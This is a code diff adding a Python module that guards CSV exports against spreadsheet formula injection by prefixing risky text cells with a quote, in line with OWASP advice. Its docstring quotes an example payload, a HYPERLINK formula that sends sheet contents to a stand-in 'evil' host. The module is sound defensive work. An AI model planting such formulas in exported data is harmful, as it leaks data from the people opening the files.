@@ -1,0 +1,45 @@
+"""CSV that is safe to open in a spreadsheet: the one way every export writes CSV.
+
+A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
+spreadsheets skip before looking for one) is run as a formula by Excel, LibreOffice and Google
+Sheets: an event title such as ``=HYPERLINK("http://evil/?"&A1)`` in a feed would leak the sheet
+or run commands on the analyst's machine. Such text cells get a leading ``'`` (OWASP's advice),
+which spreadsheets show as plain text. Numbers stay numbers.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterable, Mapping, Sequence
+
+import pandas as pd
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def safe_cell(value: object) -> object:
+    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def csv_text(rows: Iterable[Mapping[str, object]], columns: Sequence[str]) -> str:
+    """Rows (mappings by column name) as CSV text with a header line, every cell made safe."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\n")
+    writer.writerow([safe_cell(c) for c in columns])
+    for row in rows:
+        writer.writerow(["" if (v := row.get(c)) is None else safe_cell(v) for c in columns])
+    return buffer.getvalue()
+
+
+def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``frame`` with every text cell made safe (for ``dcc.send_data_frame``)."""
+    out = frame.copy()
+    for column in out.columns:
+        if not pd.api.types.is_numeric_dtype(out[column]):
+            out[column] = out[column].map(safe_cell)
+    out.columns = [safe_cell(c) for c in out.columns]
+    return out
